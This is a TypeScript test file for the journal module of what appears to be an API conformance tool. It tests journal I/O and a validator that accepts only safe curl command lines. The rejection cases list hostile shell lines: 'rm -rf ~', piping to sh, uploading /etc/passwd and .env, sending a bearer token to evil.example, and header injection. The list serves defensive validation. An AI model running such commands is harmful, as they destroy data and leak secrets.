import { appendFileSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setImmediate } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { CAPABILITIES } from '../contract/check-row.ts';
import { isConfigurationError } from '../contract/configuration-error.ts';
import { peopleOf } from '../plan/credentials.ts';
import { curlFor } from '../plan/curl.ts';
import { contract, planWith, runRecord, settingsWith } from '../testing/small-world.ts';
import type { Exchange } from './exchange.ts';
import { isCommandLine, noJournal, openJournal, readJournal, variablesIn } from './journal.ts';

let folder: string;
let file: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'journal-'));
  file = join(folder, 'journal.ndjson');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const entry = (seq: number): Exchange => ({
  type: 'exchange',
  seq,
  case: 'search/USER',
  role: 'cell',
  credential: '$USER_TOKEN',
  observation: { kind: 'failure', failure: 'reset', detail: 'reset (ECONNRESET)' },
});

function write(count: number): void {
  const journal = openJournal(folder);
  for (let seq = 1; seq <= count; seq += 1) journal.append(entry(seq));
  journal.close();
}

describe('a journal', () => {
  test('reads back a run that claims everything', () => {
    const run = runRecord({ claims: { kinds: ['USER'], capabilities: CAPABILITIES, inferred: false } });
    writeFileSync(file, `${JSON.stringify(run)}\n`);
    expect(readJournal(file)).toEqual([run]);
  });

  test('reads back what was written', () => {
    write(3);
    expect(readJournal(file)).toEqual([entry(1), entry(2), entry(3)]);
  });

  test('writes an entry to disk at the end of its turn, before the journal is closed', async () => {
    const journal = openJournal(folder);
    journal.append(entry(1));
    await setImmediate();
    expect(readJournal(file)).toEqual([entry(1)]);
    journal.close();
  });

  test('starts as a new file, and creates its folder if that is missing', () => {
    write(2);
    write(1);
    expect(readJournal(file)).toHaveLength(1);
    const deeper = join(folder, 'a', 'b');
    openJournal(deeper).close();
    expect(readJournal(join(deeper, 'journal.ndjson'))).toEqual([]);
  });

  test('ignores entries after it is closed', () => {
    const journal = openJournal(folder);
    journal.close();
    journal.close();
    journal.append(entry(1));
    expect(readFileSync(file, 'utf8')).toBe('');
  });

  test('is read without an incomplete last line, wherever it was cut', () => {
    write(2);
    const length = readFileSync(file, 'utf8').length;
    const first = readFileSync(file, 'utf8').indexOf('\n') + 1;
    for (let cut = length - 2; cut > first; cut -= 23) {
      truncateSync(file, cut);
      expect(readJournal(file)).toEqual([entry(1)]);
    }
  });

  test.each([
    ['in the middle', (lines: string[]) => [lines[0], 'damage', lines[1], ''], 2],
    ['in a complete last line', (lines: string[]) => [lines[0], lines[1], '{"type":', ''], 3],
  ])('is refused for damage %s, with the line', (_where, damage, line) => {
    write(2);
    writeFileSync(file, damage(readFileSync(file, 'utf8').split('\n')).join('\n'));
    expect(() => readJournal(file)).toThrow(`${file}: line ${line} is not JSON`);
  });

  test.each([
    ['null', 'null'],
    ['a number', '7'],
    ['an entry without a type', '{"seq":1}'],
    ['an entry of an unknown type', '{"type":"constructor"}'],
    ['an exchange without its observation', JSON.stringify({ ...entry(2), observation: undefined })],
    ['an exchange whose observation is null', JSON.stringify({ ...entry(2), observation: null })],
  ])('is refused if a line is %s, with the line', (_what, line) => {
    writeFileSync(file, `${JSON.stringify(entry(1))}\n${line}\n`);
    expect(() => readJournal(file)).toThrow(`${file}: line 2 is not a journal entry`);
  });

  test.each([
    ['that is missing', () => join(folder, 'none.ndjson'), /ENOENT/],
    ['that is a folder', () => folder, /EISDIR/],
  ])('%s is a configuration error', (_what, place, code) => {
    try {
      readJournal(place());
      expect.unreachable();
    } catch (error) {
      expect(isConfigurationError(error)).toBe(true);
      expect(String(error)).toMatch(code);
    }
  });

  test('that cannot be written is a configuration error that names the variable', () => {
    writeFileSync(join(folder, 'file'), '');
    try {
      openJournal(join(folder, 'file', 'report'));
      expect.unreachable();
    } catch (error) {
      expect(isConfigurationError(error)).toBe(true);
      expect(String(error)).toMatch(/ENOTDIR.*CONFORMANCE_REPORT_DIR/);
    }
  });

  test('reports a full disk once, keeps its content and ignores later entries', async () => {
    const fullDisk = () => {
      throw Object.assign(new Error('no space left'), { code: 'ENOSPC' });
    };
    const reasons: string[] = [];
    const journal = openJournal(folder, (reason) => reasons.push(reason), fullDisk);
    journal.append(entry(1));
    await setImmediate();
    journal.append(entry(2));
    journal.close();
    expect(reasons).toEqual([expect.stringMatching(/^cannot write .*journal\.ndjson any more \(.* full, ENOSPC\)/)]);
    const withoutListener = openJournal(folder, undefined, fullDisk);
    withoutListener.append(entry(1));
    expect(() => withoutListener.close()).toThrow(/ENOSPC/);
  });

  test('is printable ASCII, whatever a target sends', () => {
    const detail = String.fromCharCode(0x9b, 0x202e, 0x7f, 0x1b, 0x2028, 0xfeff, 0xe4, 0xd83d, 0xde00, 0xd800);
    const journal = openJournal(folder);
    journal.append({ ...entry(1), observation: { kind: 'failure', failure: 'other', detail } });
    journal.close();
    expect(readFileSync(file, 'utf8')).toMatch(/^[ -~]+\n$/);
    expect(readJournal(file)).toMatchObject([{ observation: { detail } }]);
  });

  test('keeps a text with line breaks on one line', () => {
    const journal = openJournal(folder);
    const odd: Exchange = { ...entry(1), case: 'a\nb\u2028c' };
    journal.append(odd);
    journal.close();
    appendFileSync(file, '\n');
    expect(readJournal(file)).toEqual([odd]);
  });

  test('can accept entries without writing them (noJournal)', () => {
    expect(() => {
      noJournal.append(entry(1));
      noJournal.close();
    }).not.toThrow();
  });
});

const settings = settingsWith({ CONFORMANCE_EXTRA_HEADERS: '{"X-`id`-$HOME": "x"}' });
const people = peopleOf(contract, settings.variables, 'test');

test('every command line of a plan is one, also with an odd header', () => {
  const parts = { contract, people, common: [], unknownToken: 'x' };
  const lines = [...planWith().cases.values()].map((planned) => curlFor(parts, settings, planned));
  expect(lines.length).toBeGreaterThan(100);
  expect(lines.filter((line) => !isCommandLine(line))).toEqual([]);
});

describe('a command line of a journal', () => {
  test.each([
    `curl -sS -i -X POST "$TARGET_BASE_URL/search" -H "A: \\"\\\`b" --data-raw "{'"$'\\x0a'""`,
    `printf $'GET /%% HTTP/1.1\\r\\n\\r\\n' | nc <host and port of TARGET_BASE_URL>`,
    `curl -sS -i "https://login.example/.well-known/openid-configuration" -H "Accept: application/json"`,
    `curl -sS -i --http1.0 -X POST "$TARGET_BASE_URL/search?q=$(printf '%500s' | tr ' ' a)" --data-raw "{}"`,
    `printf %s "{'"$'\\x0d\\x0a'"}" | gzip | curl -sS -i -X POST "$TARGET_BASE_URL/search" -H "Content-Encoding: gzip" --data-binary @-`,
    `curl -sS -i -X POST "https://login.example/reg" -H 'Content-Type: application/json' -d '{"scope":"MCP"}'`,
    `curl -sS -i -X GET -g "https://login.example/[1-9]?{a,b}" -H "X: a"'!'"b"`,
    `curl -sS -i -X GET -g "$TARGET_BASE_URL/search?q[]={\${USER_TOKEN:0:4}}"`,
    `curl -sS -i -X POST "https://login.example/reg" --data-raw "{\\"a\\":1}"$'\\x0a'""`,
    `curl -sS -i "$TARGET_BASE_URL/a" -H "A: \\"b\\" "$'\\x09\\xa0'"#"$'\\x23'"[c"`,
    `curl -sS -i -X POST "$MCP_URL" -H "Authorization: Bearer $USER_TOKEN"`,
  ])('can be %s', (line) => {
    expect(isCommandLine(line)).toBe(true);
  });

  test.each([
    'rm -rf ~',
    'curl -sS -i "$TARGET_BASE_URL"; rm -rf ~',
    'curl -sS -i "$TARGET_BASE_URL" | sh',
    `curl -sS -i "$TARGET_BASE_URL/$(printf '%5s' | sh)"`,
    `printf %s "{}" | gzip | curl -sS -i -X POST "$TARGET_BASE_URL/search" --data-binary @/etc/passwd`,
    'curl -sS -i "$TARGET_BASE_URL/$(rm -rf ~)"',
    'curl -sS -i "$TARGET_BASE_URL/`rm -rf ~`"',
    'curl -sS -i $(rm -rf ~)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a line for bash.
    'curl -sS -i "$TARGET_BASE_URL/${A:-$(rm -rf ~)}"',
    'curl -sS -i "$TARGET_BASE_URL/$[$(rm)]"',
    'curl -sS -i "x" & rm -rf ~',
    'curl -sS -i "x"\nrm -rf ~',
    'curl -sS -i <(rm -rf ~)',
    'curl -sS -i "unfinished',
    "curl -sS -i 'x\\'; rm -rf ~ #'",
    'curl -sS -i "https://evil.example" -H "Authorization: Bearer $USER_TOKEN"',
    'curl -sS -i "$TARGET_BASE_URL@evil.example"',
    'curl -sS -i --connect-to "::192.0.2.1:" "$TARGET_BASE_URL/" -H "Authorization: Bearer $USER_TOKEN"',
    'curl -sS -i "$MCP_URL/../evil"',
    'curl -sS -i "$MCP_URL@evil.example"',
    'curl -sS -i "$TARGET_BASE_URL/" -o .bashrc',
    'curl -sS -i "$TARGET_BASE_URL/" -d \'@.env\'',
    'curl -sS -i "$TARGET_BASE_URL/" -H "@.env"',
    `curl -sS -i "$TARGET_BASE_URL/" -H ""$'\\x40'".env"`,
    `curl -sS -i "$TARGET_BASE_URL/" -H "A: b"$'\\x0d\\x0a'"C: d"`,
    'curl -sS -i "$TARGET_BASE_URL/" -H "A:\u200bb"',
    'curl -sS -i "$TARGET_BASE_URL/" -H "X-Service-ActAs: g.<ACT_AS_EMAIL>ple"',
    'curl -sS -i "$TARGET_BASE_URL/" -H "\\\n@.env"',
    `curl -sS -i "$TARGET_BASE_URL/" -H 'A: b\n!!'`,
    'curl -sS -i "$TARGET_BASE_URL/" -H "A: !!"',
    'curl -sS -i "https://login.example/!!"',
    'curl -sS -i "https://login.example/" -H "A: !-2"',
    'curl -sS -i "https://login.example/[1-1000000]"',
    'curl -sS -i "https://login{1,2}.example/"',
    'curl -sS -i "$TARGET_BASE_URL/{1,2}"',
    '',
  ])('cannot be %j', (line) => {
    expect(isCommandLine(line)).toBe(false);
  });
});

test('a long line that is none is read in linear time', () => {
  for (const part of ['$aaaaaaaaaaaa', '$A', '\\\\', "'\\\\''", `"'!'"`, "$(printf '%5s' | tr ' ' a)", '{'])
    for (const line of ['curl -sS -i "$TARGET_BASE_URL/', `curl -sS -i "https://login.example/" -d '`])
      expect(isCommandLine(`${line}${part.repeat(20_000)}\u0060`)).toBe(false);
});

test('the variables of a line are those that a shell expands', () => {
  const line = `curl -sS -i "$TARGET_BASE_URL/\\$A" -H "X: $USER_TOKEN\${B_1:0:4}\${C#*@} \\\\$D" -d '\\' -H "$E"`;
  expect(variablesIn(line)).toEqual(['TARGET_BASE_URL', 'USER_TOKEN', 'B_1', 'C', 'D', 'E']);
});
